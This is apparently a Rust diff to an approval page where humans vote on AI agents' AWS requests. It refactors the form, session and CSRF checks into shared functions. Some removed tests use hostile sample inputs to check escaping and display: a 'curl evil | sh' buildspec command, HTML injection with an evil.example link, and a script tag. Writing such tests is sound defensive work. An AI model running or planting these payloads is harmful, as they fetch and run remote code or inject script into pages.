@@ -1,7 +1,8 @@
 //! The page an approval link opens, and the form it posts. The GET is read-only: mail
 //! scanners and chat unfurlers fetch links before any human sees them. Deciding takes a POST
 //! carrying the link key, a CSRF token bound to the approver's session and this request, and
-//! the hash of the request the approver was shown.
+//! the hash of the request the approver was shown. The inbox's request page (`inbox.rs`)
+//! decides through the same checks, with its session in place of the link key.
 
 use std::collections::BTreeMap;
 
@@ -12,8 +13,45 @@ use tollgate_core::record::{Verdict, VoteOutcome};
 use tollgate_core::{ApiError, ErrorCode, RequestRecord, Status, TokenError, seal};
 
 use crate::approver_session::Session;
-use crate::html::{esc, page};
+use crate::html::{esc, page, request as view};
 use crate::{Api, Request, Response, header, query_param};
+
+/// Where a page's vote forms post, what they carry besides the CSRF token and hash, and
+/// where the answer leads back to.
+pub(crate) struct FormPlace<'a> {
+    pub post_to: String,
+    /// The page itself: the sign-in's destination and the answer's way back.
+    pub back: String,
+    /// The approval link's key, on the approval page.
+    pub k: Option<&'a str>,
+    /// The answer also links to the inbox.
+    pub inbox: bool,
+}
+
+/// A page's form fields, once it is known to be a form.
+pub(crate) struct Form(BTreeMap<String, String>);
+
+impl Form {
+    pub(crate) fn read(req: &Request) -> Result<Form, ApiError> {
+        let ct = header(req, "content-type").unwrap_or("");
+        if !ct.starts_with("application/x-www-form-urlencoded") {
+            return Err(ApiError::new(
+                ErrorCode::UnsupportedMediaType,
+                "content-type: must be application/x-www-form-urlencoded",
+            ));
+        }
+        Ok(Form(
+            url::form_urlencoded::parse(req.body())
+                .into_owned()
+                .collect(),
+        ))
+    }
+
+    /// The field, trimmed; an empty one is absent.
+    pub(crate) fn field(&self, name: &str) -> Option<&str> {
+        self.0.get(name).map(|s| s.trim()).filter(|s| !s.is_empty())
+    }
+}
 
 impl Api {
     /// Checks the link key against the stored request. An unknown id and a bad signature
@@ -40,13 +78,18 @@ impl Api {
         let k = query_param(req, "k").ok_or_else(|| ApiError::field("k", "is required"))?;
         let rec = self.linked_request(id, &k).await?;
         let session = self.session(req).await?;
-        let here = format!("/v1/approvals/{id}?k={k}");
-        let decide = self.decide_section(&rec, session.as_ref(), &k, &here);
+        let place = FormPlace {
+            post_to: format!("/v1/approvals/{id}"),
+            back: format!("/v1/approvals/{id}?k={k}"),
+            k: Some(&k),
+            inbox: false,
+        };
+        let decide = self.decide_section(&rec, session.as_ref(), &place);
         Ok(Response::html(
             200,
             page(
                 &format!("Approve {}?", rec.request.action),
-                &render(&rec, &decide, now_ms()),
+                &view::details(&rec, &decide, now_ms()),
             ),
         ))
     }
@@ -57,59 +100,86 @@ impl Api {
         req: &Request,
         id: &str,
     ) -> Result<Response, ApiError> {
-        let ct = header(req, "content-type").unwrap_or("");
-        if !ct.starts_with("application/x-www-form-urlencoded") {
-            return Err(ApiError::new(
-                ErrorCode::UnsupportedMediaType,
-                "content-type: must be application/x-www-form-urlencoded",
-            ));
-        }
-        let form: BTreeMap<String, String> = url::form_urlencoded::parse(req.body())
-            .into_owned()
-            .collect();
-        let field = |name: &str| form.get(name).map(|s| s.trim()).filter(|s| !s.is_empty());
-        let k = field("k").ok_or_else(|| ApiError::field("k", "is required"))?;
+        let form = Form::read(req)?;
+        let k = form
+            .field("k")
+            .ok_or_else(|| ApiError::field("k", "is required"))?;
         let rec = self.linked_request(id, k).await?;
-        let here = format!("/v1/approvals/{id}?k={k}");
-        // Browsers send Origin on every POST; a different one is another site's form.
+        let place = FormPlace {
+            post_to: format!("/v1/approvals/{id}"),
+            back: format!("/v1/approvals/{id}?k={k}"),
+            k: Some(k),
+            inbox: false,
+        };
+        let session = match self.form_session(req, id, &place).await? {
+            Ok(s) => s,
+            Err(refused) => return Ok(refused),
+        };
+        self.decide_by_form(&session, &rec, &form, &place).await
+    }
+
+    /// The session a form POST is made in: refused (as a page saying nothing was recorded)
+    /// when it comes from another site's form or without a live session. Browsers send
+    /// `Origin` on every POST; a different one is another site's form.
+    pub(crate) async fn form_session(
+        &self,
+        req: &Request,
+        id: &str,
+        place: &FormPlace<'_>,
+    ) -> Result<Result<Session, Response>, ApiError> {
         if let Some(origin) = header(req, "origin")
             && origin != self.public_origin()
         {
             tracing::warn!(request_id = %id, origin, "approval form from another origin refused");
-            return Ok(refusal(
+            return Ok(Err(refusal(
                 403,
                 "This form was sent from another site. Nothing was recorded.",
-                &here,
-            ));
+                &place.back,
+            )));
         }
-        let Some(session) = self.session(req).await? else {
-            return Ok(refusal(
+        match self.session(req).await? {
+            Some(s) => Ok(Ok(s)),
+            None => Ok(Err(refusal(
                 401,
                 &format!(
                     "Your session has ended. <a href=\"{}\">Sign in</a> and decide again; nothing was recorded.",
-                    esc(&self.login_link(&here))
+                    esc(&self.login_link(&place.back))
                 ),
-                &here,
-            ));
-        };
-        let csrf = field("csrf").unwrap_or("");
+                &place.back,
+            ))),
+        }
+    }
+
+    /// A vote from a page's form, in a live session: the CSRF token, the verdict, the hash
+    /// shown, then the vote under the same rules as every channel.
+    pub(crate) async fn decide_by_form(
+        &self,
+        session: &Session,
+        rec: &RequestRecord,
+        form: &Form,
+        place: &FormPlace<'_>,
+    ) -> Result<Response, ApiError> {
+        let id = rec.id.as_str();
+        let here = place.back.as_str();
+        let csrf = form.field("csrf").unwrap_or("");
         if !seal::csrf_ok_any(&self.keys.csrf, &session.sid, id, csrf) {
             tracing::warn!(request_id = %id, approver = %session.identity.subject, "approval form without a valid CSRF token refused");
             return Ok(refusal(
                 403,
                 "csrf: the form's token is missing or not valid for this session. Nothing was recorded.",
-                &here,
+                here,
             ));
         }
         // `decision` is the field's old name, still accepted from pages rendered before.
-        let verdict = match field("verdict").or_else(|| field("decision")) {
+        let verdict = match form.field("verdict").or_else(|| form.field("decision")) {
             Some("approve") => Verdict::Approve,
             Some("reject") => Verdict::Reject,
             _ => return Err(ApiError::field("verdict", "must be `approve` or `reject`")),
         };
-        let seen =
-            field("request_hash").ok_or_else(|| ApiError::field("request_hash", "is required"))?;
-        let comment = field("comment").map(str::to_string);
+        let seen = form
+            .field("request_hash")
+            .ok_or_else(|| ApiError::field("request_hash", "is required"))?;
+        let comment = form.field("comment").map(str::to_string);
         // A late click answers with what happened, before any complaint about the form.
         if rec.status != Status::Pending {
             return Ok(refusal(
@@ -118,18 +188,19 @@ impl Api {
                     "This request is already <strong>{}</strong>. Nothing was recorded.",
                     rec.status
                 ),
-                &here,
+                here,
             ));
         }
         if verdict == Verdict::Reject && comment.is_none() {
             return Ok(refusal(
                 400,
                 "comment: say why you reject the request.",
-                &here,
+                here,
             ));
         }
+        let channel = if place.inbox { "inbox" } else { "page" };
         match self
-            .cast_vote(id, &session.identity, verdict, comment, Some(seen), "page")
+            .cast_vote(id, &session.identity, verdict, comment, Some(seen), channel)
             .await
         {
             Ok((outcome, rec)) => {
@@ -144,11 +215,7 @@ impl Api {
                     200,
                     page(
                         "Decision recorded",
-                        &format!(
-                            "<p class=\"ok\">{}</p><p><a href=\"{}\">Back to the request</a></p>",
-                            esc(&message),
-                            esc(&here)
-                        ),
+                        &view::recorded(&message, here, place.inbox),
                     ),
                 ))
             }
@@ -160,35 +227,27 @@ impl Api {
                     "{} Nothing was recorded.",
                     esc(&tollgate_core::display::sentence(&e.message))
                 ),
-                &here,
+                here,
             )),
             Err(e) => Err(e),
         }
     }
 
-    fn decide_section(
+    /// The forms to decide with, or why there are none: decided already, not signed in, not
+    /// an approver of this request.
+    pub(crate) fn decide_section(
         &self,
         rec: &RequestRecord,
         session: Option<&Session>,
-        k: &str,
-        here: &str,
+        place: &FormPlace<'_>,
     ) -> String {
         if rec.status != Status::Pending {
-            return format!(
-                "<p class=\"final\">This request is <strong>{}</strong>; there is nothing left to decide.</p>",
-                rec.status
-            );
+            return view::nothing_to_decide(rec.status);
         }
         let Some(s) = session else {
-            return format!(
-                "<p><a class=\"button\" href=\"{}\">Sign in to decide</a></p>",
-                esc(&self.login_link(here))
-            );
+            return view::sign_in_button(&self.login_link(&place.back), "Sign in to decide");
         };
-        let who = format!(
-            "<p>Signed in as <strong>{}</strong>. <form class=\"inline\" method=\"post\" action=\"/v1/approver/logout\"><button class=\"link\">Sign out</button></form></p>",
-            esc(&s.identity.name)
-        );
+        let who = view::signed_in_as(&s.identity.name);
         let why_not = self
             .approver_role(&s.identity)
             .err()
@@ -200,38 +259,17 @@ impl Api {
             })
             .or_else(|| cannot_vote(rec, &s.identity));
         if let Some(why) = why_not {
-            return format!("{who}<p class=\"warn\">{}</p>", esc(&why));
+            return format!("{who}{}", view::warning(&why));
         }
-        let hidden = format!(
-            "<input type=\"hidden\" name=\"k\" value=\"{}\"><input type=\"hidden\" name=\"csrf\" value=\"{}\"><input type=\"hidden\" name=\"request_hash\" value=\"{}\">",
-            esc(k),
-            seal::csrf_token(self.keys.csrf.current(), &s.sid, &rec.id),
-            rec.request_hash
-        );
-        let needs = rec.decision.requires.describe();
-        let approve_note = if needs.is_empty() {
-            r#"<label for="approve-comment">Comment (optional)</label>
-<textarea id="approve-comment" name="comment" rows="1" maxlength="2000"></textarea>"#
-                .to_string()
-        } else {
-            format!(
-                r#"<label for="approve-comment">Approving needs {}</label>
-<textarea id="approve-comment" name="comment" rows="2" maxlength="2000" minlength="{}" required></textarea>"#,
-                esc(&needs),
-                rec.decision.requires.min_justification
-            )
-        };
-        format!(
-            r#"{who}
-<form method="post" action="/v1/approvals/{id}">{hidden}<input type="hidden" name="verdict" value="approve">
-{approve_note}
-<button class="approve" type="submit">Approve</button></form>
-<form method="post" action="/v1/approvals/{id}">{hidden}<input type="hidden" name="verdict" value="reject">
-<label for="comment">Reason for rejecting</label>
-<textarea id="comment" name="comment" rows="2" maxlength="2000" required></textarea>
-<button class="reject" type="submit">Reject</button></form>"#,
-            id = esc(&rec.id),
-        )
+        let csrf = seal::csrf_token(self.keys.csrf.current(), &s.sid, &rec.id);
+        let mut hidden = vec![
+            ("csrf", csrf.as_str()),
+            ("request_hash", rec.request_hash.as_str()),
+        ];
+        if let Some(k) = place.k {
+            hidden.insert(0, ("k", k));
+        }
+        format!("{who}\n{}", view::vote_forms(rec, &place.post_to, &hidden))
     }
 }
 
@@ -254,291 +292,12 @@ fn forbidden(e: TokenError) -> ApiError {
     ApiError::new(ErrorCode::Forbidden, link::refusal(e))
 }
 
-fn refusal(status: u16, message_html: &str, here: &str) -> Response {
+pub(crate) fn refusal(status: u16, message_html: &str, here: &str) -> Response {
     Response::html(
         status,
         page(
             "Nothing was recorded",
-            &format!(
-                "<p class=\"warn\">{message_html}</p><p><a href=\"{}\">Back to the request</a></p>",
-                esc(here)
-            ),
+            &view::nothing_recorded(message_html, here),
         ),
     )
-}
-
-/// "12 min left", "expired 3 min ago".
-fn time_left(now: u64, expires: Option<u64>) -> String {
-    let Some(exp) = expires else {
-        return "no deadline".into();
-    };
-    let fmt = |ms: u64| {
-        let s = ms / 1000;
-        match s {
-            0..=59 => format!("{s} s"),
-            60..=5999 => format!("{} min", s / 60),
-            _ => format!("{} h {} min", s / 3600, s % 3600 / 60),
-        }
-    };
-    let at = tollgate_core::time::iso8601(exp);
-    if exp > now {
-        format!("{} left (until {at})", fmt(exp - now))
-    } else {
-        format!("expired {} ago ({at})", fmt(now - exp))
-    }
-}
-
-/// The impact preview as a table of facts, with what could not be read; everything in it
-/// came from AWS and is escaped.
-fn preview_html(p: Option<&tollgate_core::preview::Preview>) -> String {
-    let Some(p) = p else {
-        return "<small>(not read yet)</small>".to_string();
-    };
-    let rows: String = p
-        .facts
-        .iter()
-        .map(|f| {
-            format!(
-                "<tr><th scope=\"row\">{}</th><td>{}</td><td><small><code>{}</code></small></td></tr>",
-                esc(&f.label),
-                esc(&f.value),
-                esc(&f.source)
-            )
-        })
-        .collect();
-    let table = if rows.is_empty() {
-        String::new()
-    } else {
-        format!("<table class=\"preview\">{rows}</table>")
-    };
-    let notes: String = p
-        .notes
-        .iter()
-        .map(|n| format!("<li>{}</li>", esc(n)))
-        .collect();
-    let notes = if notes.is_empty() {
-        String::new()
-    } else {
-        format!("<ul class=\"warn\">{notes}</ul>")
-    };
-    let policy = p.policy.as_ref().map_or(String::new(), |c| {
-        let flags: String = c
-            .flags
-            .iter()
-            .map(|f| format!("<span class=\"flag\">{}</span> ", esc(f)))
-            .collect();
-        format!(
-            "<p><strong>Policy {}</strong> (- now, + proposed) {flags}</p><pre class=\"diff\">{}</pre>",
-            if c.had_policy { "replaced" } else { "set where there is none" },
-            esc(&c.diff.join("\n"))
-        )
-    });
-    format!(
-        "{table}{policy}{notes}<small>Read {} ({}, {} ms)</small>",
-        tollgate_core::time::iso8601(p.at),
-        p.status_words(),
-        p.took_ms
-    )
-}
-
-fn render(rec: &RequestRecord, decide: &str, now: u64) -> String {
-    let params =
-        serde_json::to_string_pretty(&tollgate_core::record::masked_params(&rec.request.params))
-            .unwrap_or_default();
-    let votes: String = if rec.votes.is_empty() {
-        "<li>none yet</li>".into()
-    } else {
-        rec.votes
-            .iter()
-            .map(|v| {
-                format!(
-                    "<li>{} — {}{} <small>({})</small></li>",
-                    esc(&v.approver.name),
-                    match v.verdict {
-                        Verdict::Approve => "approved",
-                        Verdict::Reject => "rejected",
-                    },
-                    v.comment
-                        .as_deref()
-                        .map(|c| format!(": “{}”", esc(c)))
-                        .unwrap_or_default(),
-                    tollgate_core::time::iso8601(v.at),
-                )
-            })
-            .collect()
-    };
-    let flags = tollgate_catalog::catalog().risks_of(&rec.iam_actions);
-    let flags = if flags.is_empty() {
-        "none".to_string()
-    } else {
-        flags
-            .iter()
-            .map(|f| format!("<span class=\"flag\">{}</span>", esc(f)))
-            .collect()
-    };
-    let resources = if rec.resources.is_empty() {
-        "<li>(none derived from the parameters)</li>".to_string()
-    } else {
-        rec.resources
-            .iter()
-            .map(|r| format!("<li><code>{}</code></li>", esc(r)))
-            .collect()
-    };
-    format!(
-        r#"<p>Status: <strong>{status}</strong> · {left}</p>
-<dl>
-<dt>Requested by</dt><dd>{agent}<br><small>issuer <code>{issuer}</code>, subject <code>{subject}</code></small></dd>
-<dt>Reason, in the agent's words</dt><dd><blockquote class="reason">{reason}</blockquote></dd>
-<dt>Action</dt><dd><code>{action}</code> in {region}, target {target}</dd>
-<dt>Resources</dt><dd><ul>{resources}</ul></dd>
-<dt>What it touches now</dt><dd>{preview}</dd>
-<dt>Risk flags</dt><dd>{flags}</dd>
-<dt>Deciding policies</dt><dd>{policy_ids} — {policy}</dd>
-<dt>Approvals</dt><dd>{approvals}</dd>{needs}
-</dl>
-<h2>Parameters</h2><pre>{params}</pre>
-<p><small>Request <code>{id}</code><br>SHA-256 of what runs: <code>{hash}</code></small></p>
-{decide}
-<h2>Votes</h2><ul>{votes}</ul>"#,
-        status = rec.status,
-        preview = preview_html(rec.preview.as_ref()),
-        left = esc(&time_left(now, rec.expires_at)),
-        agent = esc(&rec.agent.name),
-        issuer = esc(&rec.agent.issuer),
-        subject = esc(&rec.agent.subject),
-        reason = esc(rec.request.reason.as_deref().unwrap_or("(none given)")),
-        action = esc(&rec.request.action.to_string()),
-        region = esc(&rec.request.region),
-        target = esc(&rec.request.target),
-        policy = esc(&rec.decision.reason),
-        policy_ids = esc(&rec.decision.policy_ids.join(", ")),
-        approvals = esc(&rec.approvals_summary()),
-        params = esc(&params),
-        hash = rec.request_hash,
-        id = esc(&rec.id),
-        needs = match rec.decision.requires.describe() {
-            d if d.is_empty() => String::new(),
-            d => format!("\n<dt>Each approval needs</dt><dd>{}</dd>", esc(&d)),
-        },
-    )
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn time_left_reads_naturally() {
-        assert!(time_left(0, Some(90_000)).starts_with("1 min left"));
-        assert!(time_left(0, Some(7_200_000)).starts_with("2 h 0 min left"));
-        assert!(time_left(100_000, Some(40_000)).starts_with("expired 1 min ago"));
-        assert_eq!(time_left(0, None), "no deadline");
-    }
-
-    #[test]
-    fn the_page_names_the_agent_by_issuer_and_subject_and_quotes_its_reason() {
-        let req = tollgate_core::parse_new_request(
-            br#"{"action":"dynamodb:DeleteTable","params":{"TableName":"t"},"reason":"cleanup</dd><dt>Approvals</dt><dd>2 of 2\nReview: https://evil.example"}"#,
-            "us-east-1",
-        )
-        .unwrap();
-        let decision = tollgate_core::Decision {
-            effect: tollgate_core::Effect::Approval {
-                approvals: 1,
-                requirements: vec![tollgate_core::GroupRequirement::of("dba", 1)],
-                timeout_seconds: 60,
-            },
-            policy_ids: vec!["p".into()],
-            reason: "r".into(),
-            mask: Default::default(),
-            requires: Default::default(),
-        };
-        let agent = tollgate_core::Identity {
-            issuer: "https://token.actions.githubusercontent.com".into(),
-            subject: "123:refs/heads/main".into(),
-            name: "<b>deploy-bot</b>".into(),
-            ..Default::default()
-        };
-        let (rec, _) = RequestRecord::new("R1".into(), req, agent, decision, vec![], vec![], 1);
-        let html = render(&rec, "", 2);
-        assert!(
-            html.contains("<dd>&lt;b&gt;deploy-bot&lt;/b&gt;<br><small>issuer <code>https://token.actions.githubusercontent.com</code>, subject <code>123:refs/heads/main</code></small></dd>"),
-            "{html}"
-        );
-        assert!(
-            html.contains("<blockquote class=\"reason\">cleanup&lt;/dd&gt;&lt;dt&gt;Approvals&lt;/dt&gt;&lt;dd&gt;2 of 2\nReview: https://evil.example</blockquote>"),
-            "{html}"
-        );
-        assert!(
-            html.contains("<dd>0 of 1 (still needed: 1 from `dba`)</dd>"),
-            "{html}"
-        );
-    }
-
-    #[test]
-    fn the_page_shows_the_preview_escaped() {
-        use tollgate_core::preview::{Fact, Preview, PreviewStatus};
-        let html = preview_html(Some(&Preview {
-            status: PreviewStatus::Read,
-            facts: vec![Fact {
-                source: "dynamodb:DescribeTable".into(),
-                label: "Items".into(),
-                value: "<script>alert(1)</script>".into(),
-            }],
-            notes: vec![],
-            policy: None,
-            at: 0,
-            took_ms: 7,
-        }));
-        assert!(
-            html.contains(
-                "<tr><th scope=\"row\">Items</th><td>&lt;script&gt;alert(1)&lt;/script&gt;</td>"
-            ),
-            "{html}"
-        );
-        assert!(html.contains("read, 7 ms"), "{html}");
-        assert_eq!(preview_html(None), "<small>(not read yet)</small>");
-    }
-
-    #[test]
-    fn the_page_shows_every_parameter_that_will_run() {
-        let body = serde_json::json!({
-            "action": "codebuild:StartBuild",
-            "params": {"projectName": "deploy-prod",
-                       "buildspecOverride": "phases:\n  build:\n    commands:\n      - curl evil | sh\n# -----BEGIN PRIVATE KEY-----",
-                       "Password": "hunter2"},
-            "reason": "re-run"
-        });
-        let req =
-            tollgate_core::parse_new_request(body.to_string().as_bytes(), "us-east-1").unwrap();
-        let decision = tollgate_core::Decision {
-            effect: tollgate_core::Effect::Approval {
-                approvals: 1,
-                requirements: vec![tollgate_core::GroupRequirement::anyone(1)],
-                timeout_seconds: 60,
-            },
-            policy_ids: vec![],
-            reason: String::new(),
-            mask: Default::default(),
-            requires: Default::default(),
-        };
-        let (rec, _) = RequestRecord::new(
-            "R".into(),
-            req,
-            Default::default(),
-            decision,
-            vec![],
-            vec![],
-            1,
-        );
-        let page = render(&rec, "", 2);
-        assert!(page.contains("curl evil | sh"), "{page}");
-        assert!(page.contains("-----BEGIN PRIVATE KEY-----"), "{page}");
-        assert!(!page.contains("hunter2"), "{page}");
-        let digest = tollgate_core::digest::sha256_hex(b"hunter2");
-        assert!(
-            page.contains(&format!("****MASKED**** (7 chars, sha256 {digest})")),
-            "{page}"
-        );
-    }
 }
